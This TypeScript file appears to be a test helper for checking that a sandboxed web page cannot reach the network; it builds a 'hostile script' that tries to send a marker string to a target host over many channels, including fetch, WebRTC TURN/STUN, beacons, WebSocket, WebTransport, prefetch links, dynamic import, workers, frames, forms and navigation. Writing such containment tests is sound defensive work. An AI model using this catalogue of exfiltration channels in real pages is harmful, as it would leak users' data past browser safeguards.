/**
 * What a hostile script in the page could try to reach the outside with. It runs in the page, so that it may use
 * nothing from elsewhere; each attempt is its own, and its failing is no news.
 */
async function hostileScript(target: string): Promise<void> {
  const attempt = async (name: string, act: () => unknown) => {
    // oxlint-disable-next-line no-console -- the page has no other way to tell the test what it tried
    console.info(`tried: ${name}`);
    try {
      await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, 800))]);
    } catch {
      // Refused: as it should be.
    }
  };
  const link = (relation: string, href: string) => {
    const element = document.createElement('link');
    element.rel = relation;
    element.href = href;
    document.head.append(element);
  };

  for (const protocol of ['http', 'https']) {
    await attempt(`fetch over ${protocol}`, () =>
      fetch(`${protocol}://${target}/?geheim`, { mode: 'no-cors' }),
    );
  }
  for (const url of [
    `stun:${target}:3478`,
    `turn:${target}:3478?transport=udp`,
    `turn:${target}:3478?transport=tcp`,
  ]) {
    await attempt(`WebRTC ${url}`, async () => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: url, username: 'geheim', credential: 'geheim' }],
      });
      connection.createDataChannel('geheim');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 700));
    });
  }
  await attempt('beacon', () => navigator.sendBeacon(`http://${target}/beacon`, 'geheim'));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${target}/xhr`);
    request.send('geheim');
  });
  await attempt('WebSocket', () => new WebSocket(`ws://${target}:9/geheim`));
  await attempt('EventSource', () => new EventSource(`http://${target}/events`));
  await attempt(
    'WebTransport',
    () =>
      new (window as never as { WebTransport: new (to: string) => object }).WebTransport(
        `https://${target}:443/`,
      ),
  );
  await attempt('image', () => {
    new Image().src = `http://${target}/geheim.png`;
  });
  for (const relation of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'stylesheet',
  ]) {
    await attempt(relation, () => link(relation, `http://${target}/${relation}`));
  }
  await attempt('name look-up', () => link('dns-prefetch', '//geheim.example.org'));
  await attempt('import', () => import(/* @vite-ignore */ `http://${target}/module.js`));
  await attempt('worker', () => new Worker(`data:text/javascript,fetch('http://${target}/')`));

  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = `http://${target}/frame`;
    document.body.append(frame);
  });
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = `http://${target}/form`;
    form.method = 'post';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  });
  await attempt('window.open', () => window.open(`http://${target}/window`));
  await attempt('navigation', () => location.assign(`http://${target}/navigation`));
}

/** The script as text, for the page to run; the stand-in for a helper that compilers leave in function texts. */
export function hostileCode(target: string): string {
  return `(() => { const __name = (value) => value; void (${hostileScript.toString()})(${JSON.stringify(target)}); })()`;
}

/** The last attempt, and the last of those that show what an open browser sends. */
export const lastAttempt = 'navigation';
export const lastTelling = (target: string) => `WebRTC turn:${target}:3478?transport=tcp`;
